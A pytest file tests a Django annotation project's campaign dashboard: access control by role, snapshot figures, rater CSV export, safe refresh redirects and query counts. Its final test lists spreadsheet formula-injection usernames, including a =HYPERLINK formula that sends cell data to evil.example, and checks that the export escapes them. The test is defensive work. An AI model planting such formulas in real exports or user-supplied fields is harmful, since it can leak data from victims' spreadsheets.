"""The campaign pages over HTTP: who may open them, what they show of the snapshot, the
rater CSV, the refresh button, and that a page's queries do not grow with the campaign."""

import copy
import csv
import io
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from annotation.dashboard.selectors import campaign_snapshot_get
from annotation.models import CampaignSnapshot, RaterModelFit, TaskKind
from frontend.vendor import PLOTLY
from tests.factories import DatasetFactory, PairFactory, SamplingBatchFactory, SplitFactory, UserFactory
from tests.frontend.campaign_setup import rate_campaign
from tests.support.campaign_views import RATER_NAMES, client_for

pytestmark = pytest.mark.django_db


def pages_of(snapshot) -> list[str]:
    rater_id = snapshot.data["raters"][0]["rater_id"]
    return ["/campaigns/", "/campaigns/coco/", "/campaigns/coco/raters/", f"/campaigns/coco/raters/{rater_id}/"]


@pytest.mark.parametrize(("roles", "staff"), [(["researcher"], False), (["admin"], False), ([], True)])
def test_admins_and_researchers_open_every_page(campaign, roles, staff):
    client = client_for(*roles, staff=staff)
    for url in pages_of(campaign):
        assert client.get(url).status_code == 200, url
    assert client.get("/campaigns/coco/raters/?format=csv").status_code == 200


def test_raters_get_the_403_page_and_anonymous_users_the_login(campaign):
    rater = client_for("rater")
    anonymous = Client()
    for url in pages_of(campaign):
        response = rater.get(url)
        assert response.status_code == 403, url
        assert "Not allowed" in response.content.decode(), "the project's 403 page"
        response = anonymous.get(url)
        assert (response.status_code, response["Location"]) == (302, f"/login/?next={url}")
    assert rater.post("/campaigns/coco/refresh/").status_code == 403
    assert anonymous.post("/campaigns/coco/refresh/").status_code == 302
    assert rater.get("/campaigns/coco/raters/?format=csv").status_code == 403
    assert CampaignSnapshot.objects.count() == 1, "no refresh was queued"


def test_dashboard_numbers_are_the_snapshots(campaign):
    data = campaign.data
    data["progress"].update(ratings_last_24h=98765, raters_active_last_hour=4321, leases_held=777)
    data["quality"]["alpha_by_kind"][0]["alpha"] = 0.6543
    campaign.save()
    html = client_for("researcher").get("/campaigns/coco/").content.decode()
    assert "98765" in html and "4321" in html and "777" in html
    assert "0.654" in html
    assert "Snapshot made" in html and campaign.made_at.strftime("%Y-%m-%d %H:%M UTC") in html
    assert f"/static/{PLOTLY.static_path}" in html
    assert 'id="campaign-charts"' in html
    for chart in ("ratings_per_day", "ratings_per_hour_today", "pair_means", "pair_sds", "positive_share"):
        assert f'data-chart="{chart}"' in html
    assert html.count('class="numbers"') == html.count("data-chart="), "every chart has its numbers"


def test_the_dashboard_states_the_window_of_its_pace(campaign):
    data = campaign.data
    data["progress"].update(
        ratings_remaining=14_400,
        finish_estimate=(campaign.made_at + timedelta(minutes=6)).isoformat(),
        pace={
            "state": "estimate",
            "window": "since_first_rating",
            "window_seconds": 360.0,
            "ratings": 14_400,
            "per_hour": 144_000.0,
        },
    )
    campaign.save()
    html = client_for("researcher").get("/campaigns/coco/").content.decode()
    assert "144,000 / hour" in html and "since the first rating 6 minutes ago" in html
    assert "in 6 minutes" in html and "(at this pace)" in html


def test_without_a_snapshot_the_pages_say_so_and_offer_to_compute(campaign):
    CampaignSnapshot.objects.all().delete()
    client = client_for("admin")
    for url in ("/campaigns/coco/", "/campaigns/coco/raters/"):
        response = client.get(url)
        html = response.content.decode()
        assert response.status_code == 200
        assert "No numbers yet" in html and "Compute now" in html
        assert "plotly" not in html and "data-chart" not in html
    assert "no numbers yet" in client.get("/campaigns/").content.decode()
    assert client.get("/campaigns/coco/raters/?format=csv").status_code == 404


def test_unknown_dataset_rater_or_format_is_refused(campaign):
    client = client_for("admin")
    assert client.get("/campaigns/nope/").status_code == 404
    assert client.get("/campaigns/coco/raters/99999999/").status_code == 404
    assert client.get("/campaigns/coco/raters/?format=xlsx").status_code == 400
    assert client.get("/campaigns/coco/?asked=soon").status_code == 400
    assert client.get("/campaigns/coco/refresh/").status_code == 405


def test_rater_csv_downloads_one_row_per_rater_from_the_snapshot(campaign):
    response = client_for("researcher").get("/campaigns/coco/raters/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    stamp = campaign.made_at.strftime("%Y%m%d-%H%M")
    assert response["Content-Disposition"] == f'attachment; filename="coco-raters-{stamp}.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["username"] for row in rows) == RATER_NAMES
    assert list(rows[0])[:5] == ["rater_id", "username", "flagged", "sts_today", "sts_total"]
    by_name = {row["username"]: row for row in rows}
    for rater in campaign.data["raters"]:
        row = by_name[rater["username"]]
        assert int(row["total_all"]) == rater["ratings_total_all"] > 0
        assert float(row["loo_correlation"]) == pytest.approx(rater["loo_correlation"], abs=1e-4)
    assert float(by_name["ann"]["fast_share"]) == 1.0, "ann took 1 s per item, under every floor"
    assert float(by_name["ben"]["fast_share"]) == 0.0


def test_rater_table_links_each_rater_to_their_page(campaign):
    html = client_for("researcher").get("/campaigns/coco/raters/").content.decode()
    assert "Download CSV" in html and 'href="/campaigns/coco/raters/?format=csv"' in html
    for rater in campaign.data["raters"]:
        assert f'href="/campaigns/coco/raters/{rater["rater_id"]}/">{rater["username"]}</a>' in html
    assert "plotly" not in html, "no chart on the rater table"


def test_rater_page_shows_the_largest_differences_with_captions_and_pictures(campaign):
    from annotation.models import Pair

    eve = next(r for r in campaign.data["raters"] if r["username"] == "eve")
    differences = campaign.data["rater_details"][str(eve["rater_id"])]["largest_differences"]
    assert differences, "eve disagrees on purpose (tests/frontend/campaign_setup.py)"
    html = client_for("researcher").get(f"/campaigns/coco/raters/{eve['rater_id']}/").content.decode()
    assert "Rater eve" in html
    for row in differences:
        pair = Pair.objects.select_related("caption_a", "image_a").get(pk=row["pair_id"])
        assert f"pair #{pair.pk}" in html
        if pair.caption_a is not None:
            assert pair.caption_a.text in html
        if pair.image_a is not None:
            assert f"https://images.example.org/{pair.image_a.file_path}" in html
    for chart in ("score_histogram", "seconds_over_time", "loo_over_time"):
        assert f'data-chart="{chart}"' in html


def test_refresh_queues_a_new_snapshot_and_goes_back(campaign, django_capture_on_commit_callbacks):
    client = client_for("researcher")
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post("/campaigns/coco/refresh/", {"next": "/campaigns/coco/raters/"})
    assert len(callbacks) == 2  # the rater-effects model's refit, then the snapshot
    assert RaterModelFit.objects.filter(dataset=campaign.dataset).exists()
    assert response.status_code == 302
    path, asked = response["Location"].split("?asked=")
    assert path == "/campaigns/coco/raters/"
    newest = campaign_snapshot_get(campaign.dataset)
    assert newest.pk != campaign.pk and newest.made_at.timestamp() * 1000 >= int(asked)
    html = client.get(response["Location"]).content.decode()
    assert "Refreshed: these are the new numbers." in html
    assert "refresh.js" not in html


def test_refresh_goes_back_only_to_this_site(campaign, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        response = client_for("admin").post("/campaigns/coco/refresh/", {"next": "https://elsewhere.example/"})
    assert response["Location"].startswith("/campaigns/coco/?asked=")


def test_a_queued_refresh_reloads_the_page_until_done_and_a_stuck_one_says_so(campaign):
    client = client_for("researcher")
    soon = int((timezone.now() + timedelta(seconds=1)).timestamp() * 1000)
    html = client.get(f"/campaigns/coco/?asked={soon}").content.decode()
    assert "A refresh is queued" in html and "frontend/campaign/refresh.js" in html
    CampaignSnapshot.objects.update(made_at=timezone.now() - timedelta(minutes=10))
    five_minutes_ago = int((timezone.now() - timedelta(minutes=5)).timestamp() * 1000)
    html = client.get(f"/campaigns/coco/?asked={five_minutes_ago}").content.decode()
    assert "has not finished after two minutes" in html and "refresh.js" not in html


def _queries(client, url) -> int:
    client.get(url)  # the session and user rows are read once per request either way
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_page_queries_do_not_grow_with_the_raters(campaign):
    """The dashboard and the rater table read the snapshot, never a row per rater: the same
    queries for 5 raters as for 200 (CxC had about 100)."""
    client = client_for("researcher")
    urls = ["/campaigns/coco/", "/campaigns/coco/raters/", "/campaigns/coco/raters/?format=csv"]
    before = [_queries(client, url) for url in urls]
    rater_page_queries = _queries(client, pages_of(campaign)[3])
    data = campaign.data
    template = data["raters"][0]
    data["raters"] = [{**copy.deepcopy(template), "rater_id": 10_000 + i, "username": f"crowd{i}"} for i in range(200)]
    campaign.save()
    after = [_queries(client, url) for url in urls]
    assert after == before
    # The rater table also reads the active pauses and the exclusions not undone: the
    # Paused column says what an admin's Pause did a moment ago, not at the next snapshot.
    assert max(after) <= 8, "session, user, roles, dataset, snapshot, flag thresholds, pauses, exclusions"
    assert rater_page_queries == max(before) + 1, "and one for the ten pairs' captions and pictures"
    html = client.get("/campaigns/coco/raters/").content.decode()
    assert html.count('/">crowd') == 200, "one row per rater"


def test_admin_home_dataset_admin_and_home_page_link_to_the_campaign_pages(campaign):
    admin = Client()
    admin.force_login(UserFactory(is_staff=True, is_superuser=True))
    assert 'href="/campaigns/"' in admin.get("/admin/").content.decode()
    assert 'href="/campaigns/"' in admin.get("/admin/annotation/dataset/").content.decode()
    change = admin.get(f"/admin/annotation/dataset/{campaign.dataset_id}/change/").content.decode()
    assert 'href="/campaigns/coco/"' in change
    assert 'href="/campaigns/"' in client_for("researcher").get("/").content.decode()
    assert "/campaigns/" not in client_for("rater").get("/").content.decode()


def test_the_campaign_page_and_rater_table_do_not_fetch_the_rater_details(campaign):
    """rater_details is most of a snapshot at CxC scale; only a rater's page needs it."""
    client = client_for("researcher")
    for url in ("/campaigns/coco/", "/campaigns/coco/raters/"):
        client.get(url)
        with CaptureQueriesContext(connection) as queries:
            client.get(url)
        snapshot_reads = [q["sql"] for q in queries if "campaignsnapshot" in q["sql"]]
        assert len(snapshot_reads) == 1, url
        selected = snapshot_reads[0].split(" FROM ")[0]
        assert 'AS "data__progress"' in selected and "rater_details" not in selected
        assert not re.search(r'"data"(?! ->)', selected), "never the whole data column"


# Five raters: the campaign's pairs want five ratings each.
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1)", "+cmd", "-2+3", "\tx=1"]


def test_rater_csv_escapes_cells_a_spreadsheet_would_run(client):
    """Cells of the rater-table CSV that begin with = reached spreadsheets
    unescaped. A rater's name is theirs to choose (crowd ids, old accounts): every cell
    that begins like a formula is written with a leading ' (defusedcsv)."""
    batch = SamplingBatchFactory(split=SplitFactory(dataset=DatasetFactory(name="coco")))
    for _ in range(3):
        PairFactory(batch=batch, kind=TaskKind.STS)
    raters = [UserFactory(username=name, roles=["rater"]) for name in FORMULA_NAMES]
    rate_campaign(batch.dataset, raters)
    response = client_for("admin").get("/campaigns/coco/raters/?format=csv")
    assert response.status_code == 200
    names = sorted(row["username"] for row in csv.DictReader(io.StringIO(response.content.decode())))
    assert names == sorted("'" + name for name in FORMULA_NAMES)
